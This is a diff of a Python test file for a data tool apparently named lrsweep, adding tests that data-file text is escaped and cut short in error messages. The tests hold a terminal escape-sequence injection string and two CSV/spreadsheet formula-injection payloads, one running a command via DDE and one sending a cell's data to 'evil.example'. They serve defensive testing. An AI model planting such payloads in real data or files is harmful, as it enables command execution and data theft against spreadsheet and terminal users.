@@ -69,7 +69,7 @@ def test_parquet_reads_as_the_same_table_in_csv_does(tmp_path):
         (
             {"a": [1, 2], "y": [0, 1]},
             {"target": "outcome"},
-            "key 'dataset.target': column 'outcome' not in d.csv (columns: a, y)",
+            "key 'dataset.target': column 'outcome' not in d.csv (columns: 'a', 'y')",
         ),
         (
             {"a": [1, 2], "y": [0, 1]},
@@ -233,7 +233,7 @@ def test_malformed_files_are_refused(tmp_path, text, fragment):
         ),
         (
             ["0", "1", "yes", "no"] * 15,
-            "the target mixes numbers and text (0, 1, no, yes): give every row the same kind",
+            "the target mixes numbers and text ('0', '1', 'no', 'yes'): give every row the same",
         ),
     ],
 )
@@ -323,7 +323,7 @@ def test_categorical_auto_and_imputation(csv):
         (
             frame(a=[1.0, 2, 3, 4], y=[0, 1, 0, 1]),
             ["colour"],
-            "key 'categorical': column(s) 'colour' not in the data (columns: a, y)",
+            "key 'categorical': column(s) 'colour' not in the data (columns: 'a', 'y')",
         ),
         (
             frame(a=[1.0, 2, 3, 4], c=["x"] * 4, y=[0, 1, 0, 1]),
@@ -371,3 +371,231 @@ def test_more_folds_than_rows_of_a_class_is_refused(csv):
         "experiment 'ex': key 'cv.folds': 5 folds need at least 5 training rows of each class; "
         "class '1' has 4"
     )
+
+
+# --------------------------------------------------------------------------------------------
+# Text from the data: checked where it is read, quoted briefly wherever it is told (issue #27)
+
+ESC = "\x1b]0;TITLE-SET-BY-DATA\x07\x1b[2J\x1b[31mRED"
+
+
+def refusal(root, **spec) -> str:
+    with pytest.raises(DataError) as err:
+        prepare({"source": "csv", "path": "d.csv", "target": "y", **spec}, root=root)
+    return str(err.value)
+
+
+def test_quote_escapes_control_characters_and_cuts_long_values():
+    from lrsweep.errors import quote, quote_list
+
+    assert quote("a") == "'a'" and quote(1) == "1" and quote(np.int64(3)) == "3"
+    assert quote(ESC).startswith(r"'\x1b]0;TITLE-SET-BY-DATA\x07\x1b[2J")
+    assert "\x1b" not in quote(ESC) and "\x07" not in quote(ESC)
+    assert quote("z" * 200_000) == f"'{'z' * 40}'… (200,000 characters)"
+    assert quote_list(["a", "b"]) == "'a', 'b'"
+    assert quote_list(range(25)) == "0, 1, 2, 3, 4, 5, 6, 7, 8, 9, … (25 in all)"
+
+
+@pytest.mark.parametrize(
+    ("header", "fragment"),
+    [
+        # Excel's "CSV UTF-8" starts with a byte-order mark, which pandas drops
+        ("\ufeffy,a,y", "key 'dataset.path': d.csv has duplicated column names ('y')"),
+        # a header longer than 1 MiB (and a field longer than the csv module's limit)
+        ("a," + "b" * (1 << 20) + ",a,y", "key 'dataset.path': d.csv has duplicated column names"),
+        (
+            "z" * 200_000 + ",y",
+            "key 'dataset.features': the name of column 1 of d.csv "
+            f"('{'z' * 40}'… (200,000 characters)) is longer than 1,000 characters",
+        ),
+        (
+            ",a,y",
+            "key 'dataset.features': column 1 of d.csv has no name (a row index, written "
+            "without index=False?): name it, or list the features",
+        ),
+    ],
+)
+def test_headers_are_checked_as_the_file_holds_them(tmp_path, header, fragment):
+    rows = "".join(f"{i % 2},{i},{i % 2}\n" for i in range(20))
+    (tmp_path / "d.csv").write_text(f"{header}\n{rows}", encoding="utf-8")
+    said = refusal(tmp_path)
+    assert said.startswith(f"experiment 'ex': {fragment}"), said
+    assert len(said) < 300
+
+
+def test_a_feature_listed_twice_is_refused(csv):
+    root = csv(frame(a=[1.0, 2, 3, 4], b=[0.0, 1, 1, 0], y=[0, 1, 0, 1]))
+    assert refusal(root, features=["a", "a", "b"]) == (
+        "experiment 'ex': key 'dataset.features': 'a' listed twice: list each column once"
+    )
+    inline = {"source": "inline", "x": [[0, 1], [1, 0]], "y": [0, 1], "feature_names": ["u", "u"]}
+    with pytest.raises(DataError, match="key 'dataset.feature_names': 'u' listed twice"):
+        prepare(inline)
+
+
+@pytest.mark.parametrize(
+    ("table", "spec", "fragment"),
+    [
+        (
+            frame(a=np.arange(8.0), y=["no", "yes\nsure"] * 4),
+            {},
+            r"key 'dataset.target': a class label of column 'y' ('yes\nsure') holds a control "
+            r"character ('\n'), which is not allowed: fix the data",
+        ),
+        (
+            frame(a=np.arange(8.0), **{ESC: [1.0] * 8}, y=[0, 1] * 4),
+            {},
+            r"key 'dataset.features': the name of column 2 of d.csv ('\x1b]0;TITLE-SET-BY-DATA"
+            r"\x07\x1b[2J\x1b[31mRED') holds a control character ('\x1b')",
+        ),
+        (
+            frame(a=np.arange(8.0), **{"y\x9b": [0, 1] * 4}),
+            {"target": "y\x9b"},
+            r"key 'dataset.target': the name of column 2 of d.csv ('y\x9b') holds a control",
+        ),
+        (
+            frame(a=np.arange(8.0), job=["a\tb", "c"] * 4, y=[0, 1] * 4),
+            {"categorical": "auto"},
+            r"key 'categorical': a level of column 'job' ('a\tb') holds a control character",
+        ),
+        (
+            frame(a=np.arange(8.0), y=["no", "y" * 5000] * 4),
+            {},
+            "key 'dataset.target': a class label of column 'y' "
+            f"('{'y' * 40}'… (5,000 characters)) is longer than 1,000 characters",
+        ),
+    ],
+)
+def test_control_characters_in_names_and_labels_are_refused(csv, table, spec, fragment):
+    root = csv(table)
+    categorical = spec.pop("categorical", [])
+    said = refusal(root, **spec) if not categorical else None
+    if categorical:
+        with pytest.raises(DataError) as err:
+            prepare(
+                {"source": "csv", "path": "d.csv", "target": "y"},
+                root=root,
+                categorical=categorical,
+            )
+        said = str(err.value)
+    assert said.startswith(f"experiment 'ex': {fragment}"), said
+    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in said)
+
+
+def test_a_long_cell_is_quoted_by_a_short_prefix(tmp_path):
+    rows = "".join(f"{i}.5,1.0,{i % 2}\n" for i in range(20))
+    (tmp_path / "d.csv").write_text(f'a,b,y\n{rows}1.0,"{"x" * 300_000}",0\n')
+    said = refusal(tmp_path)
+    assert said == (
+        f"experiment 'ex': key 'dataset.features': column 'b' holds text ('{'x' * 40}'… "
+        "(300,000 characters) on line 22 of the file): list it under categorical (or "
+        "categorical: auto), or fix the data"
+    )
+
+
+def test_a_class_only_in_the_test_rows_is_refused_at_the_split(csv):
+    from sklearn.model_selection import train_test_split
+
+    y = [0, 1] * 10 + [2]
+    split = {"test_size": 0.25, "random_state": 0, "stratify": False}
+    _, test = train_test_split(np.arange(21), test_size=0.25, random_state=0)
+    assert 20 in test  # the one row of class 2 is a test row
+    root = csv(frame(a=np.arange(21.0), y=y))
+    with pytest.raises(DataError) as err:
+        prepare({"source": "csv", "path": "d.csv", "target": "y"}, split=split, root=root)
+    assert str(err.value) == (
+        "experiment 'ex': key 'split': class 2 has no training rows (its 1 row is a test row): "
+        "use stratify: true, or add rows of it"
+    )
+
+
+def test_predict_quotes_the_columns_of_new_rows_briefly():
+    from lrsweep.errors import LrsweepError
+    from lrsweep.predict import check_columns
+
+    new = pd.DataFrame({"a": [1.0], ESC + "z" * 100_000: [1.0]})
+    with pytest.raises(LrsweepError) as err:
+        check_columns(new, ["a", "b"], "y", "new.csv")
+    said = str(err.value)
+    assert said.startswith(
+        r"new.csv: its columns do not match the model's (missing 'b'; unexpected '\x1b]0;"
+    )
+    assert "… (100,034 characters)); the model takes: a, b" in said and len(said) < 300
+
+
+@pytest.mark.slow
+def test_formula_like_text_is_kept_exact_in_the_tables_as_the_readme_says(tmp_path):
+    """The rule for cells a spreadsheet would run (issue #27 case 11): the tables are results,
+    keyed and checksummed, so such text is written exactly, neither escaped nor refused; the
+    README says so and how to open them safely."""
+    import csv as csvmod
+
+    from conftest import REPO, snakemake
+
+    from lrsweep.cli import main
+
+    name, label = "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rng = np.random.RandomState(1)
+    X = rng.normal(size=(120, 2))
+    table = pd.DataFrame(X, columns=[name, "@b"])
+    table["y"] = np.where(X[:, 0] + rng.normal(size=120) > 0, label, "-no")
+    table.to_csv(tmp_path / "f.csv", index=False)
+    table.head(3).to_csv(tmp_path / "new.csv", index=False)
+    experiment = {"dataset": {"source": "csv", "path": "f.csv", "target": "y"}, "sklearn": {}}
+    config = {"sweep": "f", "figures": False, "experiments": {"f": experiment}}
+    proc = snakemake(tmp_path, config=config)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    version = tmp_path / "results/f/latest"
+    with open(version / "coefficients.csv", newline="") as f:
+        rows = list(csvmod.DictReader(f))
+    assert {r["term"] for r in rows} >= {name, "@b"}
+    out = tmp_path / "p.csv"
+    assert main(["predict", str(tmp_path / "new.csv"), "-o", str(out), "--experiment", "f",
+                 "--selected", "--results", str(tmp_path / "results/f")]) == 0  # fmt: skip
+    with open(out, newline="") as f:
+        header, *cells = list(csvmod.reader(f))
+    assert header[:2] == [name, "@b"] and f"p_{label}" in header and "p_-no" in header
+    assert cells[0][header.index("predicted")] in (label, "-no")
+    readme = " ".join((REPO / "README.md").read_text().split())
+    assert "beginning with `=`, `+`, `-` or `@`" in readme and "written exactly" in readme
+
+
+@pytest.mark.slow
+def test_a_run_tells_control_characters_in_one_escaped_line_each(tmp_path):
+    """The runs of the issue: a newline in a label failed every grid point in the figures; an
+    escape sequence in a column name reached the terminal raw."""
+    from conftest import snakemake
+
+    rng = np.random.RandomState(0)
+    a = rng.normal(size=80)
+    frame(a=a, b=rng.normal(size=80), y=np.where(a > 0, "yes\nsure", "no")).to_csv(
+        tmp_path / "nl.csv", index=False
+    )
+    frame(a=a, **{ESC: np.ones(80)}, y=(a > 0).astype(int)).to_csv(
+        tmp_path / "esc.csv", index=False
+    )
+    experiments = {
+        name: {"dataset": {"source": "csv", "path": f"{name}.csv", "target": "y"}, "sklearn": {}}
+        for name in ("nl", "esc")
+    }
+    proc = snakemake(tmp_path, config={"sweep": "c", "experiments": experiments})
+    assert proc.returncode != 0
+    said = proc.stdout + proc.stderr
+    assert not any((ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 for c in said)
+    lines = [line for line in said.splitlines() if line.startswith("lrsweep: experiment")]
+    assert len(lines) == 2, lines
+    assert any(
+        line.startswith(
+            r"lrsweep: experiment 'nl': key 'dataset.target': a class label of column 'y' "
+            r"('yes\nsure') holds a control character ('\n')"
+        )
+        for line in lines
+    )
+    assert any(
+        line.startswith(
+            r"lrsweep: experiment 'esc': key 'dataset.features': the name of column 2 of "
+            r"esc.csv ('\x1b]0;TITLE-SET-BY-DATA\x07\x1b[2J\x1b[31mRED') holds a control"
+        )
+        for line in lines
+    )
+    assert not list((tmp_path / "results/c").glob("v-*"))
